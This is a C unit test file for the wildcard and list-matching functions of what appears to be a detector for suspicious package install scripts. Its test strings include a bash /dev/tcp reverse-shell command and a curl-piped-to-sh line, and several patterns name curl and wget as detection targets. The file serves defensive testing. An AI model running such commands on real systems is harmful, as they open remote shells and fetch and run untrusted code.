// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* like~ and in~ matching. */
#include <time.h>

#include "unit.h"

struct like_case {
	const char *pattern;
	const char *s;
	bool match;
};

/* clang-format off */
static const struct like_case like_cases[] = {
	/* the seed rule's own patterns */
	{ "*postinstall*", "sh -c node postinstall.js", true },
	{ "*postinstall*", "npm run postinstall", true },
	{ "*postinstall*", "node install.js", false },
	{ "*install.js*", "node install.js", true },
	{ "*install.js*", "node ./scripts/INSTALL.JS --force", true },
	{ "*install.js*", "node install.mjs", false },
	{ "*setup.py*", "python3 setup.py install", true },
	{ "*setup.py*", "python3 setup.cfg", false },
	{ "*node-pre-gyp*", "node ./node_modules/.bin/node-pre-gyp install --fallback-to-build",
	  true },
	{ "*node-pre-gyp*", "node-gyp rebuild", false },
	/* whole string, not a substring */
	{ "curl", "curl", true },
	{ "curl", "curly", false },
	{ "curl", "xcurl", false },
	{ "curl*", "curl -s http://x", true },
	{ "*curl", "/usr/bin/curl", true },
	/* case-insensitive both ways */
	{ "CURL", "curl", true },
	{ "curl", "CuRl", true },
	{ "*/Dev/TCP/*", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true },
	/* empty strings and empty patterns */
	{ "", "", true },
	{ "", "a", false },
	{ "*", "", true },
	{ "**", "", true },
	{ "?", "", false },
	{ "a", "", false },
	/* ? is exactly one byte */
	{ "?", "a", true },
	{ "?", "ab", false },
	{ "node?", "node", false },
	{ "node?", "node8", true },
	{ "python?.??", "python3.11", true },
	{ "python?.??", "python3.9", false },
	{ "python?.?", "python3.9", true },
	{ "a?c", "abc", true },
	{ "a?c", "ac", false },
	{ "*?", "x", true },
	{ "?*?", "x", false },
	/* consecutive stars behave as one */
	{ "a**b", "ab", true },
	{ "a***b", "axxxb", true },
	{ "***", "anything", true },
	{ "a**", "b", false },
	/* backtracking */
	{ "*a*b", "aaab", true },
	{ "*a*b", "aaba", false },
	{ "*ab*ab", "abxab", true },
	{ "*ab*ab", "abab", true },
	{ "*ab*ab", "ab", false },
	{ "*curl *|*sh", "sh -c curl -s http://127.0.0.1:9/x | sh", true },
	{ "*curl *|*sh", "sh -c curl -s http://x/sums | shasum -a 256", false },
	{ "*a?c*", "xxabcxx", true },
	{ "*.js", "a.js.map", false },
	/* a newline is a byte like any other */
	{ "a*b", "a\nb", true },
	{ "a?b", "a\nb", true },
};
/* clang-format on */

static void test_like_table(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(like_cases); i++) {
		const struct like_case *t = &like_cases[i];

		if (match_like(t->pattern, t->s) != t->match)
			fail_msg("like~ \"%s\" on \"%s\": expected %s", t->pattern, t->s,
				 t->match ? "match" : "no match");
	}
}

static void test_like_null(void **state)
{
	(void)state;
	assert_false(match_like("*", NULL));
	assert_false(match_like(NULL, "x"));
	assert_false(match_like(NULL, NULL));
}

static void test_like_pathological(void **state)
{
	static const char *const patterns[] = {
		"*a*a*a*a*b",
		"*a*a*a*a*a*a*a*a*a*a*a*a*b",
		"a*a*a*a*a*a*a*a*a*a*?b",
		"*??????????????????????b",
	};
	size_t n = 1 << 16, i;
	char *s = malloc(n + 1);
	struct timespec t0, t1;
	double ms;

	(void)state;
	memset(s, 'a', n);
	s[n] = '\0';
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (i = 0; i < ARRAY_SIZE(patterns); i++)
		assert_false(match_like(patterns[i], s));
	s[n - 1] = 'b';
	for (i = 0; i < ARRAY_SIZE(patterns); i++)
		assert_true(match_like(patterns[i], s));
	clock_gettime(CLOCK_MONOTONIC, &t1);
	ms = (t1.tv_sec - t0.tv_sec) * 1e3 + (t1.tv_nsec - t0.tv_nsec) / 1e6;
	assert_true(ms < 2000);
	free(s);
}

static char *list_v[] = { "preinstall", "postinstall", "Install", "" };

static void test_in(void **state)
{
	struct strlist l = { .v = list_v, .n = 3 };
	struct strlist empty = { 0 };

	(void)state;
	assert_true(match_in(&l, "postinstall"));
	assert_true(match_in(&l, "POSTINSTALL"));
	assert_true(match_in(&l, "install"));
	assert_false(match_in(&l, "postinstal"));
	assert_false(match_in(&l, "postinstalls"));
	assert_false(match_in(&l, "*install"));
	assert_false(match_in(&l, ""));
	assert_false(match_in(&l, NULL));
	assert_false(match_in(&empty, "x"));
	assert_false(match_in(NULL, "x"));
	l.n = 4;
	assert_true(match_in(&l, ""));
}

static void test_any(void **state)
{
	char *v[] = { "*wget*", "*curl *", "*curl*" };
	struct strlist l = { .v = v, .n = 3 };

	(void)state;
	assert_string_equal(match_any(&l, "curl -s x"), "*curl *");
	assert_string_equal(match_any(&l, "/usr/bin/curl"), "*curl*");
	assert_null(match_any(&l, "git clone"));
	assert_null(match_any(&l, NULL));
	assert_null(match_any(NULL, "curl"));
}

static void test_strlist_free(void **state)
{
	struct strlist l;

	(void)state;
	l.n = 2;
	l.v = calloc(2, sizeof(*l.v));
	l.v[0] = strdup("a");
	l.v[1] = strdup("b");
	strlist_free(&l);
	assert_null(l.v);
	assert_int_equal(l.n, 0);
	strlist_free(&l);
	strlist_free(NULL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_like_table),
		cmocka_unit_test(test_like_null),
		cmocka_unit_test(test_like_pathological),
		cmocka_unit_test(test_in),
		cmocka_unit_test(test_any),
		cmocka_unit_test(test_strlist_free),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
